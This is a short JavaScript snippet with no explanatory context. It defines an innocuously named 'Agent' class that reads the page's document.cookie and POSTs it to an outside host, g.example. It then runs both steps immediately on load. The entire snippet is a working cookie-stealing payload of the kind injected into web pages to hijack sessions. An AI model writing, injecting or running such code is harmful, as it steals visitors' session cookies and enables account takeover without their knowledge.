class Agent {
  collect() { this.data = document.cookie; }
  flush() { return fetch('https://g.example', { method: 'POST', body: this.data }); }
}
const a = new Agent();
a.collect();
a.flush();
